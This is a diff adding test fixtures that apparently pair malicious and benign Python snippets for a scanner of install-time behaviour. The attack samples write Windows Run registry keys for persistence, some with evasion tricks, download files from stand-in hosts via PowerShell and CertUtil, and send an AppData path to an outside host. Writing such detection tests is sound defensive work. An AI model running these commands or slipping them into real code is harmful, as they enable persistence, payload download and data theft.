@@ -221,6 +221,45 @@ export const observedPairs: Readonly<Record<string, ObservedPair>> = {
     ),
     kind: 'outside-write',
   },
+  'a value of the registry has a long name, behind one with the name of a key': {
+    attack: setup(
+      "import os\nif os.name == 'nt':\n    import winreg\n    winreg.SetValue(winreg.HKEY_CURRENT_USER, 'software', winreg.REG_SZ, 'a')\n    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'software\\microsoft\\windows\\currentversion\\run', 0, winreg.KEY_SET_VALUE) as key:\n        winreg.SetValueEx(key, 'pair' * 80, 0, winreg.REG_SZ, 'pair.exe')",
+    ),
+    honest: setup("import os\nif os.name == 'nt':\n    import winreg"),
+    kind: 'outside-write',
+  },
+  'a program and its words are written in other case': {
+    attack: setup(
+      "import os\nif os.name == 'nt':\n    os.system('REG.exe ADD HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\currentversion\\\\run /V a /D a.exe')",
+    ),
+    honest: setup("import os\nif os.name == 'nt':\n    os.system('REG QUERY HKCU\\\\Software')"),
+    kind: 'outside-write',
+  },
+  'PowerShell is started by its whole path': {
+    attack: setup(
+      "import os, subprocess\nif os.name == 'nt':\n    subprocess.run([os.environ['SystemRoot'] + '\\\\System32\\\\PowerShell.exe', '-Command', 'Invoke-WebRequest -Uri https://capital.stranger.example/a -OutFile a'])",
+    ),
+    honest: setup(
+      "import os, subprocess\nif os.name == 'nt':\n    subprocess.run(['PowerShell.exe', '-Command', 'Get-Date'])",
+    ),
+    kind: 'undeclared-host',
+  },
+  'a line is started without a shell': {
+    attack: setup(
+      "import os, subprocess\nif os.name == 'nt':\n    subprocess.Popen('CertUtil -urlcache -f https://line.stranger.example/a C:\\\\a')",
+    ),
+    honest: setup(
+      "import os, subprocess\nif os.name == 'nt':\n    try: subprocess.Popen('no-such-program --version')\n    except FileNotFoundError: print('none')",
+    ),
+    kind: 'undeclared-host',
+  },
+  'a variable is asked in another case': {
+    attack: setup(
+      "import os, urllib.request\nif os.name == 'nt':\n    urllib.request.urlopen('https://mixed.stranger.example/' + os.path.basename(os.environ['AppData']))",
+    ),
+    honest: setup("import os\nif os.name == 'nt':\n    print(os.environ['UserProfile'])"),
+    kind: 'undeclared-host',
+  },
   'an installation lets PowerShell fetch and start': {
     attack: setup(
       'import os\nos.system(\'powershell -Command "Invoke-WebRequest -Uri https://shell.stranger.example/a.exe -OutFile a.exe; Start-Process a.exe"\')',
